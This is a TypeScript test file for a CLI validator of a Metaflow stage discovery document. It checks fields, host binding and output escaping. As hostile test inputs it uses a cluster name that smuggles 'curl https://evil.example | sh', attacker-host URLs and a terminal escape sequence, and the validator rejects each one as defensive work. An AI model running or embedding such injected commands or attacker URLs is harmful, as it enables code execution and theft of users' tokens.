import * as http from 'node:http';
import type { AddressInfo } from 'node:net';
import {
  DiscoveryError,
  fetchDiscovery,
  MAX_DISCOVERY_BYTES,
  stageDiscoveryUrl,
  validateDiscovery,
  type DiscoveryDocument,
} from './discovery';

const valid: DiscoveryDocument = {
  schemaVersion: 1,
  stage: 'dev',
  issuer: 'https://cognito-idp.us-west-2.amazonaws.com/us-west-2_AbCdEf123',
  cliClientId: '4example0client0id',
  redirectPorts: [53682, 53683],
  redirectPath: '/callback',
  scopes: ['openid', 'email', 'profile'],
  cognitoDomain: 'https://metaflow-dev-123456789012.auth.us-west-2.amazoncognito.com',
  defaultDatastore: 's3',
  serviceUrl: 'https://dev.metaflow.example.com/cli/',
  serviceInternalUrl: 'http://metaflow-metadata.metaflow.svc.cluster.local:8080',
  datastoreSysrootS3: 's3://metaflow-dev-123456789012/metaflow',
  datatoolsS3Root: 's3://metaflow-dev-123456789012/data',
  kubernetesNamespace: 'metaflow-jobs',
  kubernetesServiceAccount: 'metaflow-task',
  argoEvents: {
    eventBus: 'default',
    eventSource: 'metaflow-webhook',
    event: 'metaflow-event',
    serviceAccount: 'argo-events-sensor',
    webhookUrl: 'http://webhook.metaflow-jobs.svc:12000/metaflow-event',
  },
  region: 'us-west-2',
  clusterName: 'metaflow-dev',
  uiUrl: 'https://dev.metaflow.example.com/',
};

const DOC_URL = 'https://dev.metaflow.example.com/.well-known/metaflow-gitops.json';

function issuesOf(doc: unknown, url = DOC_URL): string[] {
  try {
    validateDiscovery(doc, url);
  } catch (err) {
    if (err instanceof DiscoveryError) return err.issues.map((i) => `${i.path}: ${i.message}`);
    throw err;
  }
  return [];
}

describe('validateDiscovery', () => {
  test('accepts a complete document and ignores unknown fields', () => {
    expect(issuesOf(valid)).toEqual([]);
    expect(issuesOf({ ...valid, futureField: { x: 1 } })).toEqual([]);
    expect(validateDiscovery(valid, DOC_URL)).toBe(valid);
  });

  test.each<[string, unknown, string[]]>([
    ['not an object', [1, 2], ['(document): must be a JSON object']],
    ['missing issuer', { ...valid, issuer: undefined }, ['issuer: missing (a non-empty string is required)']],
    ['http issuer off loopback', { ...valid, issuer: 'http://idp.example.com' }, ['issuer: must use https:, got "http://idp.example.com"']],
    ['relative service URL', { ...valid, serviceUrl: '/cli/' }, ['serviceUrl: must be an absolute URL, got "/cli/"']],
    ['empty ports', { ...valid, redirectPorts: [] }, ['redirectPorts: must be a non-empty array of port numbers']],
    [
      'bad port',
      { ...valid, redirectPorts: [53682, 'x', 70000] },
      [
        'redirectPorts[1]: must be an integer port between 1024 and 65535, got "x"',
        'redirectPorts[2]: must be an integer port between 1024 and 65535, got 70000',
      ],
    ],
    [
      'bucket URL',
      { ...valid, datatoolsS3Root: 'https://bucket.s3.amazonaws.com/data' },
      ['datatoolsS3Root: must be an s3://<bucket>/<prefix> URL, got "https://bucket.s3.amazonaws.com/data"'],
    ],
    [
      'namespace',
      { ...valid, kubernetesNamespace: 'Metaflow_Jobs' },
      ['kubernetesNamespace: must be a Kubernetes namespace name, got "Metaflow_Jobs"'],
    ],
    ['region', { ...valid, region: 'oregon' }, ['region: must be an AWS region such as us-west-2, got "oregon"']],
    ['stage name', { ...valid, stage: 'Dev Stage' }, ['stage: must be a stage name (lowercase letters, digits, hyphens), got "Dev Stage"']],
    [
      'argo events missing',
      { ...valid, argoEvents: undefined },
      ['argoEvents: missing (an object with eventBus, eventSource, event, serviceAccount, webhookUrl)'],
    ],
    ['no schema version', { ...valid, schemaVersion: undefined }, ['schemaVersion: missing (a positive integer is required)']],
    ['no scopes', { ...valid, scopes: undefined }, ['scopes: must be a non-empty array of scope names, got undefined']],
    [
      'argo events field',
      { ...valid, argoEvents: { ...valid.argoEvents, eventBus: 3 } },
      ['argoEvents.eventBus: must be a non-empty string, got 3'],
    ],
    ['cluster endpoint', { ...valid, clusterEndpoint: 'not a url' }, ['clusterEndpoint: must be an absolute URL, got "not a url"']],
    [
      'http cluster endpoint',
      { ...valid, clusterEndpoint: 'http://ABC.gr7.us-west-2.eks.amazonaws.com' },
      ['clusterEndpoint: must use https:, got "http://ABC.gr7.us-west-2.eks.amazonaws.com"'],
    ],
    [
      'CA data not base64',
      { ...valid, clusterCertificateAuthorityData: 'not base64!' },
      ['clusterCertificateAuthorityData: must be the base64 of a PEM certificate (-----BEGIN CERTIFICATE-----...), got "not base64!"'],
    ],
    [
      'CA data not a certificate',
      { ...valid, clusterCertificateAuthorityData: Buffer.from('hello').toString('base64') },
      ['clusterCertificateAuthorityData: must be the base64 of a PEM certificate (-----BEGIN CERTIFICATE-----...), got "aGVsbG8="'],
    ],
    [
      'CA data empty',
      { ...valid, clusterCertificateAuthorityData: '' },
      ['clusterCertificateAuthorityData: must be a non-empty string, got ""'],
    ],
    [
      'CA data a placeholder',
      { ...valid, clusterCertificateAuthorityData: '<pending:clusterCertificateAuthorityData>' },
      [
        'clusterCertificateAuthorityData: must be the base64 of a PEM certificate (-----BEGIN CERTIFICATE-----...), got "<pending:clusterCertificateAuthorityData..."',
      ],
    ],
    [
      'newer schema',
      { ...valid, schemaVersion: 2 },
      ['schemaVersion: is 2, newer than this metaflow-login understands (1): upgrade metaflow-login'],
    ],
    ['scopes without openid', { ...valid, scopes: ['email'] }, ['scopes: must include openid, got ["email"]']],
    [
      'redirect path',
      { ...valid, redirectPath: 'callback' },
      ['redirectPath: must be an absolute URL path such as /callback, got "callback"'],
    ],
    [
      'datastore',
      { ...valid, defaultDatastore: 'local' },
      ['defaultDatastore: must be "s3" (the only datastore this platform provides), got "local"'],
    ],
    [
      'several at once',
      { ...valid, cliClientId: '', uiUrl: 'ftp://x' },
      ['cliClientId: must be a non-empty string, got ""', 'uiUrl: must use https:, got "ftp://x"'],
    ],
  ])('%s', (_name, doc, expected) => {
    expect(issuesOf(doc)).toEqual(expected);
  });

  test('cluster endpoint and CA data: optional (older stages), accepted when well-formed', () => {
    expect(valid.clusterEndpoint).toBeUndefined();
    const ca = Buffer.from('-----BEGIN CERTIFICATE-----\nMIIB\n-----END CERTIFICATE-----\n').toString('base64');
    expect(
      issuesOf({
        ...valid,
        clusterEndpoint: 'https://ABCDEF0123456789.gr7.us-west-2.eks.amazonaws.com',
        clusterCertificateAuthorityData: ca,
      }),
    ).toEqual([]);
  });

  test('http is fine for loopback and in-cluster URLs', () => {
    const local = { ...valid, issuer: 'http://localhost:8080', serviceUrl: 'http://127.0.0.1:9000/cli/', uiUrl: 'http://127.0.0.1:9000/' };
    expect(issuesOf(local, 'http://127.0.0.1:9000/.well-known/metaflow-gitops.json')).toEqual([]);
  });

  // A copy of a real document served by another host (the URL the user was tricked into): every
  // URL the CLI sends a token to, writes into the profile or the kubeconfig must stay on that
  // host, in the cluster, or on the AWS hosts of the stage's region.
  const ATTACKER = 'https://attacker.example.net';
  test.each<[string, Record<string, unknown>, string]>([
    [
      'service URL elsewhere',
      { serviceUrl: `${ATTACKER}/cli/` },
      `serviceUrl: must be on the stage host https://dev.metaflow.example.com (the URL you are logging in to), got "${ATTACKER}/cli/"`,
    ],
    [
      'service URL on another port of the stage host',
      { serviceUrl: 'https://dev.metaflow.example.com:8443/cli/' },
      'serviceUrl: must be on the stage host https://dev.metaflow.example.com (the URL you are logging in to), got "https://dev.metaflow.example.com:8443/cli/"',
    ],
    [
      'UI URL elsewhere',
      { uiUrl: `${ATTACKER}/` },
      `uiUrl: must be on the stage host https://dev.metaflow.example.com (the URL you are logging in to), got "${ATTACKER}/"`,
    ],
    [
      'webhook elsewhere',
      { argoEvents: { ...valid.argoEvents, webhookUrl: `${ATTACKER}/events` } },
      `argoEvents.webhookUrl: must be on the stage host https://dev.metaflow.example.com (the URL you are logging in to) or an in-cluster URL, got "${ATTACKER}/events"`,
    ],
    [
      'internal service URL outside the cluster',
      { serviceInternalUrl: 'http://attacker.example.net:8080' },
      'serviceInternalUrl: must be an in-cluster URL (http://<service>.<namespace>.svc.cluster.local:<port>), got "http://attacker.example.net:8080"',
    ],
    [
      'cluster endpoint elsewhere',
      { clusterEndpoint: `${ATTACKER}` },
      `clusterEndpoint: must be an EKS API endpoint of us-west-2 (https://<id>.<suffix>.us-west-2.eks.amazonaws.com), got "${ATTACKER}"`,
    ],
    [
      'cluster endpoint in another region',
      { clusterEndpoint: 'https://ABC.gr7.eu-west-1.eks.amazonaws.com' },
      'clusterEndpoint: must be an EKS API endpoint of us-west-2 (https://<id>.<suffix>.us-west-2.eks.amazonaws.com), got "https://ABC.gr7.eu-west-1.eks.amazonaws.com"',
    ],
    [
      'cluster endpoint whose host only starts like EKS',
      { clusterEndpoint: 'https://ABC.gr7.us-west-2.eks.amazonaws.com.attacker.example.net' },
      'clusterEndpoint: must be an EKS API endpoint of us-west-2 (https://<id>.<suffix>.us-west-2.eks.amazonaws.com), got "https://ABC.gr7.us-west-2.eks.amazonaws.com.attacker.example.net"',
    ],
    [
      'cluster endpoint on loopback',
      { clusterEndpoint: 'https://127.0.0.1:6443' },
      'clusterEndpoint: must be an EKS API endpoint of us-west-2 (https://<id>.<suffix>.us-west-2.eks.amazonaws.com), got "https://127.0.0.1:6443"',
    ],
    [
      'hosted UI elsewhere (logout sends it the refresh token)',
      { cognitoDomain: ATTACKER },
      `cognitoDomain: must be a Cognito hosted-UI domain of us-west-2 (https://<prefix>.auth.us-west-2.amazoncognito.com), got "${ATTACKER}"`,
    ],
    [
      'issuer elsewhere',
      { issuer: `${ATTACKER}/us-west-2_AbCdEf123` },
      `issuer: must be the Cognito issuer of us-west-2 (https://cognito-idp.us-west-2.amazonaws.com/<pool id>), got "${ATTACKER}/us-west-2_AbCdEf123"`,
    ],
  ])('bound to the stage: %s', (_what, change, issue) => {
    expect(issuesOf({ ...valid, ...change })).toEqual([issue]);
  });

  test('a cluster name that is not an EKS name (it ends up in a command the user pastes) is refused', () => {
    expect(issuesOf({ ...valid, clusterName: 'dev; curl https://evil.example | sh' })).toEqual([
      'clusterName: must be an EKS cluster name (letters, digits, - and _), got "dev; curl https://evil.example | sh"',
    ]);
  });

  test('bound to the stage: EKS endpoints of the stage region (commercial partition, the only one stages use; any case) pass', () => {
    expect(issuesOf({ ...valid, clusterEndpoint: 'https://ABCDEF0123456789.gr7.us-west-2.eks.amazonaws.com' })).toEqual([]);
    expect(issuesOf({ ...valid, clusterEndpoint: 'https://abc.yl4.us-west-2.eks.amazonaws.com/' })).toEqual([]);
  });

  test('the error message lists every issue and says what to check', () => {
    expect(() => validateDiscovery({ ...valid, region: '', stage: '' }, DOC_URL)).toThrow(
      /invalid discovery document at https:\/\/dev\.metaflow\.example\.com\/\.well-known\/metaflow-gitops\.json:\n {2}stage: .*\n {2}region: .*\nThe stage publishes this document/,
    );
  });

  test('values are printed escaped: no terminal control sequence from the document reaches the screen', () => {
    const hostile = '\u001b]0;owned\u0007\u009b2J\u202e';
    let message = '';
    try {
      validateDiscovery({ ...valid, cliClientId: 5, kubernetesNamespace: hostile }, DOC_URL);
    } catch (err) {
      message = (err as Error).message;
    }
    expect(message).toContain('kubernetesNamespace: must be a Kubernetes namespace name, got "\\u001b]0;owned\\u0007\\x9b2J\\u202e"');
    expect([...message].filter((ch) => ch !== '\n' && /[\p{Cc}\u202e]/u.test(ch))).toEqual([]);
  });
});

describe('stageDiscoveryUrl', () => {
  test('appends the well-known path to the stage URL', () => {
    expect(stageDiscoveryUrl('https://dev.metaflow.example.com')).toBe('https://dev.metaflow.example.com/.well-known/metaflow-gitops.json');
    expect(stageDiscoveryUrl('https://dev.metaflow.example.com/some/path')).toBe(
      'https://dev.metaflow.example.com/.well-known/metaflow-gitops.json',
    );
  });

  test('refuses plain http off loopback and non-URLs (usage errors)', () => {
    expect(() => stageDiscoveryUrl('http://dev.metaflow.example.com')).toThrow(
      "stage URL must use https: 'http://dev.metaflow.example.com'",
    );
    expect(() => stageDiscoveryUrl('dev')).toThrow(expect.objectContaining({ exitCode: 2 }));
  });
});

describe('optional fields added after schema version 1', () => {
  test('argoEvents.publicWebhookUrl: optional (older stages), a public https URL when present', () => {
    const withPublic = (publicWebhookUrl: unknown) => ({ ...valid, argoEvents: { ...valid.argoEvents, publicWebhookUrl } });
    expect(issuesOf(withPublic('https://dev.metaflow.example.com/events/metaflow-event'))).toEqual([]);
    expect(issuesOf(withPublic('http://dev.metaflow.example.com/events/metaflow-event'))).toEqual([
      'argoEvents.publicWebhookUrl: must use https:, got "http://dev.metaflow.example.com/events/metaflow-event"',
    ]);
  });

  test('taskImage and taskImageRegistry: optional (older stages), a registry-qualified reference when present', () => {
    const image = '111111111111.dkr.ecr.us-west-2.amazonaws.com/metaflow-ecr-public/docker/library/python:3.12';
    expect(
      issuesOf({ ...valid, taskImage: image, taskImageRegistry: '111111111111.dkr.ecr.us-west-2.amazonaws.com/metaflow-ecr-public' }),
    ).toEqual([]);
    expect(issuesOf({ ...valid, taskImage: 'python:3.12' })).toEqual([
      `taskImage: must be an image of the stage's ECR registry (<account>.dkr.ecr.us-west-2.amazonaws.com/<repository>:<tag>), got "python:3.12"`,
    ]);
    // Every step would run it with the user's credentials: another registry or region is refused.
    for (const other of ['evil.example.com/python:3.12', '111111111111.dkr.ecr.eu-west-1.amazonaws.com/python:3.12']) {
      expect(issuesOf({ ...valid, taskImage: other })).toHaveLength(1);
      expect(issuesOf({ ...valid, taskImageRegistry: other.replace(/\/python:3\.12$/, '') })).toHaveLength(1);
    }
  });

  test('dataScientistRoleArn: optional (older stages), an IAM role ARN when present', () => {
    expect(valid.dataScientistRoleArn).toBeUndefined();
    for (const arn of ['arn:aws:iam::111111111111:role/dev-eks-DataScientistRoleF86E50E8-AbC', 'arn:aws-cn:iam::111111111111:role/a/b']) {
      expect(issuesOf({ ...valid, dataScientistRoleArn: arn })).toEqual([]);
    }
    // It goes to STS and into messages: nothing but a role ARN, no control characters or spaces.
    for (const bad of [
      'arn:aws:iam::111111111111:user/alice',
      'arn:aws:iam::1111:role/x',
      'arn:aws:iam::111111111111:role/x y',
      'arn:aws:iam::111111111111:role/x\n',
    ]) {
      expect(issuesOf({ ...valid, dataScientistRoleArn: bad })).toEqual([
        `dataScientistRoleArn: must be an IAM role ARN (arn:aws:iam::<account>:role/<name>), got ${JSON.stringify(bad)}`,
      ]);
    }
  });

  test('a public webhook URL off the stage host is refused (events carry the bearer token)', () => {
    const withPublic = {
      ...valid,
      argoEvents: { ...valid.argoEvents, publicWebhookUrl: 'https://attacker.example.net/events/metaflow-event' },
    };
    expect(issuesOf(withPublic)).toHaveLength(1);
    expect(issuesOf(withPublic)[0]).toMatch(/^argoEvents\.publicWebhookUrl: /);
  });
});

describe('fetchDiscovery', () => {
  it('refuses a document larger than the bound without reading it all', async () => {
    let sent = 0;
    const server = http.createServer((_req, res) => {
      res.writeHead(200, { 'content-type': 'application/json' });
      const chunk = Buffer.alloc(64 * 1024, 0x20);
      const more = () => {
        while (sent < 300 * 1024 * 1024 && res.write(chunk)) sent += chunk.length;
        if (sent >= 300 * 1024 * 1024) res.end();
      };
      res.on('drain', more);
      res.on('close', () => res.off('drain', more));
      more();
    });
    await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
    try {
      const url = `http://127.0.0.1:${(server.address() as AddressInfo).port}/.well-known/metaflow-gitops.json`;
      const error = await fetchDiscovery(url).catch((err: unknown) => err);
      expect(error).toBeInstanceOf(DiscoveryError);
      expect((error as DiscoveryError).issues).toEqual([
        { path: '(document)', message: `is larger than ${MAX_DISCOVERY_BYTES} bytes (a stage's document is about 2 KB)` },
      ]);
      expect(sent).toBeLessThan(64 * 1024 * 1024);
    } finally {
      server.closeAllConnections();
      await new Promise((resolve) => server.close(resolve));
    }
  });
});
